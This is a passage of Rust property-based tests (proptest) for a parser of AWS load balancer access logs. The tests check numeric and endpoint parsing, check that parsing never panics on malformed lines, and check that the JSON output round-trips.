                "[0-9]{1,3}(\\.[0-9]{1,3}){3}",
                "[0-9a-f]{1,4}(:[0-9a-f]{0,4}){2,7}"
            ],
            any::<u16>(),
        ))
    }

    fn secs() -> impl Strategy<Value = Option<f64>> {
        prop::option::of((0u32..100_000).prop_map(|ms| f64::from(ms) / 1000.0))
    }

    fn status() -> impl Strategy<Value = Option<u16>> {
        prop::option::of(100u16..600)
    }

    fn us() -> impl Strategy<Value = i64> {
        0i64..4_102_444_800_000_000
    }

    proptest! {
        #[test]
        fn decimal_fast_path_equals_str_parse(text in "[0-9]{1,9}(\\.[0-9]{0,9})?") {
            if let Some(fast) = crate::scan::decimal(&text) {
                prop_assert_eq!(fast.to_bits(), text.parse::<f64>().unwrap().to_bits(), "{}", text);
            }
        }

        #[test]
        fn endpoint_and_number_readers_equal_the_std_parsers(text in "[0-9:\\[\\]a-f.+-]{0,10}") {
            // Endpoint: split on the last colon, brackets stripped, port by `str::parse`.
            let reference = text.rfind(':').and_then(|colon| {
                let (ip, port) = (&text[..colon], &text[colon + 1..]);
                let ip = ip.strip_prefix('[').and_then(|ip| ip.strip_suffix(']')).unwrap_or(ip);
                (!ip.is_empty() && port.bytes().all(|b| b.is_ascii_digit()))
                    .then(|| port.parse::<u16>().ok().map(|port| Endpoint { ip, port }))
                    .flatten()
            });
            prop_assert_eq!(Endpoint::parse(&text), reference);
            let field = Field { text: &text, quoted: false };
            let digits = text.bytes().all(|b| b.is_ascii_digit());
            let std16 = (digits && text != "-").then(|| text.parse::<u16>().ok()).flatten();
            let std64 = (digits && text != "-").then(|| text.parse::<u64>().ok()).flatten();
            match field.value() {
                None => prop_assert_eq!(field.number::<u16>("n"), Ok(None)),
                Some(_) => {
                    prop_assert_eq!(field.number::<u16>("n").ok().flatten(), std16);
                    prop_assert_eq!(field.number::<u64>("n").ok().flatten(), std64);
                }
            }
        }

        #[test]
        fn never_panics(line in ".*") {
            let _ = parse_line(&line);
            let _ = parse_record(&line);
            let _ = is_control_line(&line);
        }

        #[test]
        fn direct_json_equals_serde_json(ua in any::<String>(), sent in any::<u64>(), dt in any::<u32>()) {
            let line = with(r#""curl/7.46.0""#, &quote(Some(&ua)))
                .replacen(" 366 ", &format!(" {sent} "), 1)
                .replacen(" 0.001 ", &format!(" {}.{:03} ", dt / 1000, dt % 1000), 1);
            writers_agree(&parse_line(&line).unwrap(), &line)?;
        }

        #[test]
        fn never_panics_on_near_valid_lines(cut in 0usize..400, junk in "[ \"\\\\x0-9a-f-]{0,12}") {
            let mut line = HTTP.to_string();
            let at = cut.min(line.len());
            line.insert_str(at, &junk);
            let _ = parse_line(&line).map(|e| e.to_record());
        }

        #[test]
        fn direct_json_equals_serde_json_on_mangled_lines(
            cut in 0usize..420,
            junk in "([ \"\\\\x0-9a-fA-F:./=-]|\\PC){0,16}",
            tail in prop::collection::vec("(-|\\PC{0,8}|\"\\PC{0,8}\")", 0..6),
        ) {
            let mut line = format!("{HTTP} {}", tail.join(" "));
            let mut at = cut.min(line.len());
            while !line.is_char_boundary(at) {
                at -= 1;
            }
            line.insert_str(at, &junk);
            let mut direct = String::new();
            let direct_time = line_to_json(&line, &mut direct);
            if let Ok(entry) = parse_line(&line) {
                let mut fast = String::new();
                entry.write_record_json(&mut fast);
                let serde = Record::Alb(entry.to_record()).to_json();
                prop_assert_eq!(&fast, &serde, "{}", line);
                prop_assert_eq!(direct_time, Ok(entry.record_time()));
                prop_assert_eq!(direct, serde, "{}", line);
            } else {
                prop_assert!(direct_time.is_err() && direct.is_empty(), "{}", line);
            }
        }

        #[test]
        fn render_then_parse_gives_back_the_entry(
            kind in "(http|https|h2|grpcs|ws|wss)",
            times in (us(), prop::option::of(us())),
            elb in token(),
            ends in (endpoint(), endpoint()),
            timings in (secs(), secs(), secs()),
            statuses in (status(), status()),
            bytes in (prop::option::of(any::<u64>()), prop::option::of(any::<u64>())),
            request in ("[A-Z]{3,7}", "[!-~]{1,20}( [!-~]{1,10})?", "HTTP/[12]\\.[01]"),
            texts in prop::collection::vec(text(), 14),
            tokens in prop::collection::vec(prop::option::of(token()), 4),
            rule in prop::option::of(-1i32..50_000),
            extra in prop::collection::vec("\\PC{0,10}", 0..3),
        ) {
            let client = ends.0.as_ref().map(|(ip, port)| Endpoint { ip, port: *port });
            let target = ends.1.as_ref().map(|(ip, port)| Endpoint { ip, port: *port });
            let t = |i: usize| texts[i].as_deref().map(Cow::Borrowed);
            let entry = AlbEntry {
                kind: &kind,
                time: times.0,
                elb: &elb,
                client,
                target,
                request_processing_time: timings.0,
                target_processing_time: timings.1,
                response_processing_time: timings.2,
                elb_status_code: statuses.0,
                target_status_code: statuses.1,
                received_bytes: bytes.0,
                sent_bytes: bytes.1,
                request: Request {
                    method: Some(&request.0),
                    url: Some(Cow::Borrowed(&request.1)),
                    protocol: Some(&request.2),
                    raw: None,
                },
                user_agent: t(0),
                ssl_cipher: tokens[0].as_deref(),
                ssl_protocol: tokens[1].as_deref(),
                target_group_arn: tokens[2].as_deref(),
                trace_id: t(1),
                domain_name: t(2),
                chosen_cert_arn: t(3),
                matched_rule_priority: rule,
                request_creation_time: times.1,
                actions_executed: t(4),
                redirect_url: t(5),
                error_reason: t(6),
                target_port_list: t(7),
                target_status_code_list: t(8),
                classification: t(9),
                classification_reason: t(10),
                conn_trace_id: tokens[3].as_deref(),
                transformed_host: t(11),
                transformed_uri: t(12),
                request_transform_status: t(13),
                extra: extra.iter().map(|x| Cow::Borrowed(x.as_str())).collect(),
            };
            let line = render(&entry);
            writers_agree(&entry, &line)?;
            prop_assert_eq!(parse_line(&line), Ok(entry), "{}", line);
        }
    }
}
